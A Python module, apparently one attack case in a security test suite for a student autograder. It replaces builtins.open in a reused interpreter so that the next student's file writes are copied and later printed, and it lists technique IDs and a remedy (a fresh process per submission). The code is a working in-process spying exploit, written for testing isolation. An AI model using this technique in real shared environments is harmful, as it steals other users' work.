# SPDX-License-Identifier: MIT
"""Goal:  what the next student writes to a file.
Means: builtins.open, replaced in the warm process by a function that opens the file and keeps a
       copy of what is written. Builtins belong to the interpreter, and the interpreter stays: the
       next student's open() is this one. An accomplice who comes later prints the copy; no
       network, no file of one's own, no system call that a filter would not allow to everybody.

    attacker:  builtins.open = spy      honest student: open(...).write(work)      accomplice: print
                     '--------------- the same interpreter ---------------'
"""

import builtins

from attack import DONE, attempting, denied, loot, submit


def spying(real):
    def spy(file, mode="r", *rest, **named):
        stream = real(file, mode, *rest, **named)
        if "w" in mode:
            write = stream.write
            stream.write = lambda text: spy.seen.append(text) or write(text)
        return stream

    spy.seen = []
    return spy


def run(brief):
    submit("0")
    if not brief.again:
        attempting()
        builtins.open = spying(open)
        return DONE
    seen = getattr(open, "seen", None)
    if not seen:
        return denied("builtins.open", "nobody was overheard")
    loot(repr(seen))
    return DONE


ATTACK = {
    "effect": "the next student's work is copied as it is written",
    "means": "builtins.open replaced in the warm process",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "quick": True,
    "id": "WARM-01",
    "attack_id": "T1056, T1565.003, CWE-471",
    "remedy": "a process of its own for each submission, started fresh",
    "run": run,
}
